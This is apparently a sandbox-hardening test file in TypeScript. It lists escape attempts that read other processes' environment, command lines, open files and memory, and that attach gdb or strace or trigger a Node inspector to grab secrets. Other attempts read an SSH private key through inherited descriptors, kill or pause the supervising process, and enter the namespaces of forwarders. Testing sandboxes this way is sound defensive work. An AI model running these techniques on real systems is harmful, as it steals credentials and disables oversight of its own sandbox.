import { readdirSync, readFileSync, statSync } from 'node:fs'
import { setTimeout as wait } from 'node:timers/promises'
import { type Escape, SECRET_PREFIX, type Surroundings } from '../escape.ts'
import { others, python, run, shell } from '../tools.ts'

/** The victim by the id it has outside, and whatever else can be seen. */
async function candidates({ victim }: Surroundings): Promise<number[]> {
  return [victim, ...(await others())]
}

/** Looks at one process after the other until one gives its secret away. */
async function look(
  surroundings: Surroundings,
  at: (pid: number) => string | Promise<string>,
): Promise<string> {
  let last = 'nothing to look at'
  for (const pid of await candidates(surroundings)) {
    try {
      const seen = await at(pid)
      if (seen.includes(SECRET_PREFIX)) return seen
      last = seen.slice(-200)
    } catch (error) {
      last = (error as Error).message
    }
  }
  throw new Error(last)
}

function isOpen(fd: number): boolean {
  try {
    return statSync(`/proc/self/fd/${fd}/`).isDirectory()
  } catch {
    return false
  }
}

/** Prints what follows the prefix of secrets wherever it stands in the writable memory of a process. */
const SCAN = `
import re
prefix = b'${SECRET_PREFIX.slice(0, -1)}' + b'-'
def ranges(pid):
    for line in open('/proc/%d/maps' % pid):
        span, rights = line.split()[:2]
        if 'rw' in rights:
            start, end = (int(part, 16) for part in span.split('-'))
            if end - start < 64 << 20: yield start, end - start
def show(data):
    for found in re.findall(prefix + b'[0-9a-f]+', data):
        print(found.decode()); sys.exit(0)
`

const reading: Escape[] = [
  {
    name: 'find a secret in its own environment',
    gain: 'what the person keeps in variables',
    plain: true,
    proof: 'secret',
    attempt: () => JSON.stringify(process.env),
  },
  {
    name: 'use a folder that was left open for it (inherited descriptors)',
    gain: 'whatever lies in the home: a descriptor knows no mounts',
    plain: true,
    needs: ['python3'],
    proof: 'secret',
    attempt: async () => {
      const { spawn } = await import('node:child_process')
      const open = Array.from({ length: 12 }, (_, fd) => (isOpen(fd) ? fd : ('ignore' as const)))
      const script = `import os
for fd in range(3, 12):
    try: print(os.read(os.open('.ssh/id_ed25519', os.O_RDONLY, dir_fd=fd), 4096).decode())
    except OSError: pass`
      const child = spawn('/usr/bin/python3', ['-c', script], {
        stdio: ['ignore', 'pipe', 'ignore', ...open.slice(3)],
      })
      let said = ''
      for await (const chunk of child.stdout ?? []) said += chunk
      return said
    },
  },
  {
    name: 'read the environment of other processes (/proc/*/environ)',
    gain: 'tokens in variables',
    plain: true,
    proof: 'secret',
    attempt: (s) => look(s, (pid) => readFileSync(`/proc/${pid}/environ`, 'utf8')),
  },
  {
    name: 'read the command lines of other processes (/proc/*/cmdline)',
    gain: 'passwords in arguments',
    plain: true,
    proof: 'secret',
    attempt: (s) => look(s, (pid) => readFileSync(`/proc/${pid}/cmdline`, 'utf8')),
  },
  {
    name: "read other processes' open files (/proc/*/fd)",
    gain: 'what they have opened, sockets included',
    plain: true,
    proof: 'secret',
    attempt: (s) =>
      look(s, (pid) =>
        readdirSync(`/proc/${pid}/fd`)
          .map((fd) => `/proc/${pid}/fd/${fd}`)
          // A pipe would miss what was taken out of it.
          .filter((path) => statSync(path).isFile())
          .map((path) => readFileSync(path, 'latin1').slice(0, 4096))
          .join(''),
      ),
  },
  {
    name: "read other processes' memory (/proc/*/mem)",
    gain: "the supervisor's session and leases",
    plain: true,
    needs: ['python3'],
    proof: 'secret',
    attempt: (s) =>
      look(s, (pid) =>
        python(
          `${SCAN}
pid = int(sys.argv[1])
memory = open('/proc/%d/mem' % pid, 'rb', 0)
for start, size in ranges(pid):
    try: memory.seek(start); show(memory.read(size))
    except OSError: pass`,
          [String(pid)],
        ),
      ),
  },
  {
    name: "copy other processes' memory (process_vm_readv)",
    gain: "the supervisor's session and leases",
    plain: true,
    needs: ['python3'],
    proof: 'secret',
    attempt: (s) =>
      look(s, (pid) =>
        python(
          `${SCAN}
class Span(ctypes.Structure): _fields_ = [('at', ctypes.c_void_p), ('size', ctypes.c_size_t)]
pid = int(sys.argv[1])
for start, size in ranges(pid):
    data = ctypes.create_string_buffer(size)
    here, there = Span(ctypes.addressof(data), size), Span(start, size)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0: show(data.raw)`,
          [String(pid)],
        ),
      ),
  },
  {
    name: 'attach a debugger to another process (gdb -p)',
    gain: "the supervisor's session and leases; code of one's own in it",
    plain: true,
    needs: ['gdb'],
    proof: 'secret',
    attempt: async ({ victim }) =>
      (
        await run('gdb', [
          ...['-p', String(victim), '-batch', '-nx', '-ex', 'set auto-solib-add off'],
          ...['-ex', 'printf "%s\\n", ((char **)environ)[0]', '-ex', 'detach'],
        ])
      ).output,
  },
  {
    name: 'trace the system calls of another process (strace -p)',
    gain: 'what it reads and writes',
    plain: true,
    needs: ['strace'],
    proof: 'secret',
    attempt: ({ victim }) =>
      shell(
        `timeout 5 strace -f -s 200 -e trace=write,sendto,writev -p ${victim} 2>&1 | grep -m 1 -E '${SECRET_PREFIX}|strace: attach'`,
      ),
  },
  {
    name: 'take an open file out of another process (pidfd_getfd)',
    gain: 'its connections, signed in as they are',
    plain: true,
    needs: ['python3'],
    proof: 'secret',
    attempt: ({ victim }) =>
      python(
        `pidfd = call(434, 434, int(sys.argv[1]), 0)
for number in range(3, 64):
    fd = libc.syscall(438, pidfd, number, 0)
    if fd < 0: continue
    try: print(os.pread(fd, 4096, 0).decode())
    except (OSError, UnicodeDecodeError): pass`,
        [String(victim)],
      ),
  },
  {
    name: 'ask another Node for its debugger (SIGUSR1)',
    gain: "code of one's own in the supervisor",
    plain: true,
    proof: 'secret',
    attempt: async ({ victim, debugPort }) => {
      process.kill(victim, 'SIGUSR1')
      for (let tries = 0; tries < 20; tries++) {
        try {
          return await debuggerAt(debugPort)
        } catch {
          await wait(100)
        }
      }
      throw new Error('no debugger opened')
    },
  },
]

/** Reads a variable of a process through its inspector. */
async function debuggerAt(port: number): Promise<string> {
  const answer = await fetch(`http://127.0.0.1:${port}/json/list`)
  const [page] = (await answer.json()) as { webSocketDebuggerUrl: string }[]
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(page?.webSocketDebuggerUrl ?? '')
    const params = { expression: 'JSON.stringify(process.env)' }
    socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params }))
    socket.onmessage = ({ data }) => resolve(String(data))
    socket.onerror = () => reject(new Error('no debugger'))
  })
}

const signalled: Escape[] = (['SIGSTOP', 'SIGKILL'] as const).map((signal) => ({
  name: `send ${signal} to a process outside`,
  gain: 'the supervisor gone or asleep, and with it who watches',
  plain: true,
  proof: 'claim',
  attempt: async ({ bystander }) => {
    const state = () => readFileSync(`/proc/${bystander}/stat`, 'utf8')
    if (!state().includes('(jit-bystander)')) throw new Error('it cannot be seen')
    process.kill(bystander, signal)
    return signal
  },
}))

/** In the sandbox, the programs that forward its connections: beside the command, and yet not for it. */
const FORWARDERS = `for p in $(grep -lE '^(socat|bwrap)$' /proc/[0-9]*/comm | cut -d/ -f3); do`

const helpers: Escape[] = [
  {
    name: 'take over what forwards the connections: its memory, root, files, namespaces',
    gain: 'sockets without the filter of system calls',
    plain: false,
    proof: 'claim',
    attempt: () =>
      shell(
        `${FORWARDERS} for f in environ maps mem; do head -c 1 /proc/$p/$f >/dev/null 2>&1 && echo $p/$f; done
        ls /proc/$p/root/ /proc/$p/cwd/ 2>/dev/null; nsenter -t $p -U -n -m -p true 2>/dev/null && echo $p entered
        done`,
      ).then((found) => found.trim() || undefined),
  },
  {
    name: 'signal what forwards the connections, by a descriptor of its process',
    gain: 'the sandbox half ended, or asleep',
    plain: false,
    needs: ['python3'],
    proof: 'claim',
    attempt: () =>
      python(
        `import glob
tried = 0
for path in glob.glob('/proc/[0-9]*'):
    if open(path + '/comm').read().strip() not in ('socat', 'bwrap'): continue
    tried += 1
    if libc.syscall(424, os.open(path, os.O_RDONLY), 18, None, 0) == 0: print(path)
    else: error = os.strerror(ctypes.get_errno())
if tried == 0: sys.exit('none can be seen')`,
      ).then((found) => found.trim() || undefined),
  },
]

/** What lies in other processes. */
export const processes: readonly Escape[] = [...reading, ...signalled, ...helpers]
